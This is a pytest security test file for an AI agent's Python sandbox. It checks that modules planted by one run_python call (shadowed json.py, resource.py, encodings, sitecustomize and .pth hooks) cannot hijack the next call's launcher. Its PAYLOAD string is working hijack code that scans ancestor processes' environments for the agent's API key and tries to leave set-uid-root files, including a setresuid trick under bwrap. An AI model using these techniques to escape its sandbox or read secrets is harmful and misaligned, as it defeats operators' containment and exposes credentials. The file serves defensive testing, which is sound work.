"""Trust boundary, class 1: hijacking the jail's launcher (issue 9).

One run_python call writes Python files into the home; the next call's launcher must not run
them with more than the model's own code gets. The launcher runs `python -c` with the home as
cwd, so a `json.py` or `resource.py` there is imported by its first line, before the limits are
set and before privileges are dropped.

Attack catalogue (each planted in the home root, tmp/, outputs/ and the home's user
site-packages, HOME/.local/lib/pythonX.Y/site-packages):
- json.py, resource.py, ctypes.py: modules the launcher imports before it drops privileges;
- os.py, linecache.py: modules imported at start-up or after the drop (must stay harmless);
- encodings/ (a package), sitecustomize.py, usercustomize.py, a .pth file: interpreter start-up hooks.
The planted code reports what it could do: its uid, CapEff, RLIMIT_AS / RLIMIT_NPROC, whether
any ancestor's /proc/<pid>/environ held the agent's API key, and whether it could leave a
set-uid-root file in the home. Property: it never ran, or it ran as the model's code runs (no
capabilities, limits set, no secret; under bwrap never as uid 0), and no set-uid/set-gid file
owned by root is ever left in the home.
"""

from __future__ import annotations

import ast
import sys

import pytest

from tests.trust_common import AS_ROOT, GIB, LEVELS, SECRET, defuse, host_tools, make_home, setuid_root_files

PY = f"python{sys.version_info.major}.{sys.version_info.minor}"
LOCATIONS = {"root": "", "tmp": "tmp/", "outputs": "outputs/", "usersite": f".local/lib/{PY}/site-packages/"}

# The planted code. TAG and SECRET are filled in; it uses only builtins and `posix` (a builtin
# module nothing in the home can shadow), reports on stdout, then turns itself into the real module.
PAYLOAD = r"""
import sys as _hj_sys
def _hj_plant_setuid(tag):
    import posix
    flags = posix.O_WRONLY | posix.O_CREAT | posix.O_TRUNC
    try:
        name = "outputs/.suid-" + tag
        fd = posix.open(name, flags, 0o755); posix.write(fd, b"not a program\n"); posix.close(fd)
        posix.chmod(name, 0o6755)
        return "direct"
    except OSError as exc:
        first = repr(exc)
    try:  # bwrap as root keeps CAP_SETUID: be nobody a moment to open a door in the home, come back as root
        door = "tmp/.door-" + tag
        posix.setresuid(65534, 65534, 0)
        try:
            posix.mkdir(door, 0o777); posix.chmod(door, 0o777)
        finally:
            posix.setresuid(0, 0, 0)
        fd = posix.open(door + "/suid", flags, 0o755); posix.write(fd, b"not a program\n"); posix.close(fd)
        posix.chmod(door + "/suid", 0o6755)
        return "door"
    except (OSError, AttributeError) as exc:
        return "refused: " + first + " / " + repr(exc)
def _hj_report(tag, secret):
    rep = {"tag": tag}
    ppid = 0
    try:
        fields = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines() if ":" in l)
        rep["euid"] = int(fields["Uid"].split()[1])
        rep["capeff"] = fields["CapEff"].strip()
        ppid = int(fields["PPid"].split()[0])
    except Exception as exc:
        rep["status_error"] = repr(exc)
    try:
        for line in open("/proc/self/limits"):
            if line.startswith("Max address space"):
                rep["as"] = line.split()[3]
            if line.startswith("Max processes"):
                rep["nproc"] = line.split()[2]
    except Exception as exc:
        rep["limits_error"] = repr(exc)
    seen, pid, hops = False, ppid, 0
    while pid > 1 and hops < 10:
        try:
            seen = seen or secret.encode() in open("/proc/%d/environ" % pid, "rb").read()
        except Exception:
            pass
        try:
            pid = int(open("/proc/%d/status" % pid).read().split("PPid:")[1].split()[0])
        except Exception:
            break
        hops += 1
    rep["secret_seen"] = seen
    rep["setuid"] = _hj_plant_setuid(tag)
    _hj_sys.stdout.write("HIJACK-REPORT " + repr(rep) + "\n")
    _hj_sys.stdout.flush()
_hj_report(TAG, SECRET)
def _hj_become_real():
    import posix
    name = __name__
    if name in ("__main__", "sitecustomize", "usercustomize") or "." in name:
        return
    cwd = posix.getcwd()
    saved = list(_hj_sys.path)
    _hj_sys.modules.pop(name, None)
    _hj_sys.path[:] = [p for p in saved if p not in ("", ".", cwd) and not p.startswith(cwd + "/")]
    try:
        real = __import__(name)
    finally:
        _hj_sys.path[:] = saved
    _hj_sys.modules[name] = real
    globals().update({k: v for k, v in vars(real).items() if not k.startswith("__")})
_hj_become_real()
"""


def payload(tag: str) -> str:
    return f"TAG = {tag!r}\nSECRET = {SECRET!r}\n" + PAYLOAD


def planting_code(files: dict[str, str]) -> str:
    """run_python code that writes `files` (path relative to the home → text)."""
    return (
        "import os\n"
        f"files = {files!r}\n"
        "for rel, text in files.items():\n"
        "    os.makedirs(os.path.dirname(rel) or '.', exist_ok=True)\n"
        "    with open(rel, 'w') as fh:\n"
        "        fh.write(text)\n"
        "print('planted', len(files))\n"
    )


def planted_files(kind: str) -> dict[str, str]:
    files = {}
    for where, prefix in LOCATIONS.items():
        tag = f"{kind}@{where}"
        if kind == "encodings":
            files[f"{prefix}encodings/__init__.py"] = payload(tag)
        elif kind == "startup-hooks":
            files[f"{prefix}sitecustomize.py"] = payload(tag + ":sitecustomize")
            files[f"{prefix}usercustomize.py"] = payload(tag + ":usercustomize")
            files[f"{prefix}zz-hijack.pth"] = "import sys; exec(" + repr(payload(tag + ":pth")) + ")\n"
        else:
            files[f"{prefix}{kind}.py"] = payload(tag)
    return files


def reports(text: str) -> list[dict]:
    return [
        ast.literal_eval(line.split("HIJACK-REPORT ", 1)[1]) for line in text.splitlines() if "HIJACK-REPORT " in line
    ]


def violations(found: list[dict], level: str) -> list[str]:
    """What planted code could do that the model's own code cannot: empty when contained."""
    problems = []
    for rep in found:
        where = rep["tag"]
        if rep.get("capeff") != "0000000000000000":
            problems.append(f"{where}: ran with capabilities (CapEff {rep.get('capeff')})")
        if rep.get("as") != str(GIB):
            problems.append(f"{where}: ran before RLIMIT_AS was set (it was {rep.get('as')})")
        if not (rep.get("nproc", "unlimited").isdigit() and int(rep["nproc"]) < 10_000):
            problems.append(f"{where}: ran before RLIMIT_NPROC was set (it was {rep.get('nproc')})")
        if level == "bwrap" and AS_ROOT and rep.get("euid") == 0:
            problems.append(f"{where}: ran as uid 0 inside bwrap")
        if (level == "bwrap" or AS_ROOT) and rep.get(
            "secret_seen"
        ):  # as another user the process level admits parent_environ
            problems.append(f"{where}: read the agent's API key from /proc/<pid>/environ")
    return problems


@pytest.mark.parametrize("kind", ["json", "resource", "ctypes", "os", "linecache", "encodings", "startup-hooks"])
@pytest.mark.parametrize("level", LEVELS)
def test_planted_module_runs_no_stronger_than_model_code(tmp_path, level, kind):
    """Class 1, launcher hijack: a module planted by one run_python call (json/resource/ctypes/os/
    linecache/encodings/start-up hooks, in the home root, tmp/, outputs/ and the user site dir) and
    picked up by the next call never runs with capabilities, before the limits, as root under
    bwrap, or where it can read the agent's API key; and it leaves no set-uid-root file."""
    home = make_home(tmp_path)
    try:
        run = host_tools(
            home,
            [("run_python", {"code": planting_code(planted_files(kind))}), ("run_python", {"code": "print('hi')"})],
            level,
            timeout=90,
        )
        assert run.survived, run.describe()
        plant, follow = run.results
        assert "planted" in plant["text"], plant["text"]
        assert "hi" in follow["text"], follow["text"]
        problems = violations(reports(plant["text"]) + reports(follow["text"]), level)
        problems += [f"set-uid/set-gid root file left in the home: {p}" for p in setuid_root_files(home)]
        assert not problems, "; ".join(problems)
    finally:
        defuse(home)


@pytest.mark.parametrize("level", LEVELS)
def test_model_code_leaves_no_setuid_root_file(tmp_path, level):
    """Class 1, set-uid files: whatever run_python does (chmod u+s/g+s on files it made in outputs/,
    tmp/ and the home root), no set-uid or set-gid file owned by root is left in the home after the call."""
    home = make_home(tmp_path)
    code = (
        "import os\n"
        "for p in ('outputs/suid', 'tmp/sgid', 'suid-root'):\n"
        "    with open(p, 'w') as fh:\n"
        "        fh.write('#!/bin/sh\\nid\\n')\n"
        "    try:\n"
        "        os.chmod(p, 0o6755)\n"
        "        print('chmod', p, oct(os.stat(p).st_mode), os.stat(p).st_uid)\n"
        "    except OSError as exc:\n"
        "        print('refused', p, exc)\n"
    )
    try:
        run = host_tools(home, [("run_python", {"code": code})], level, timeout=60)
        assert run.survived, run.describe()
        assert setuid_root_files(home) == [], f"set-uid/set-gid root files left in the home: {setuid_root_files(home)}"
    finally:
        defuse(home)
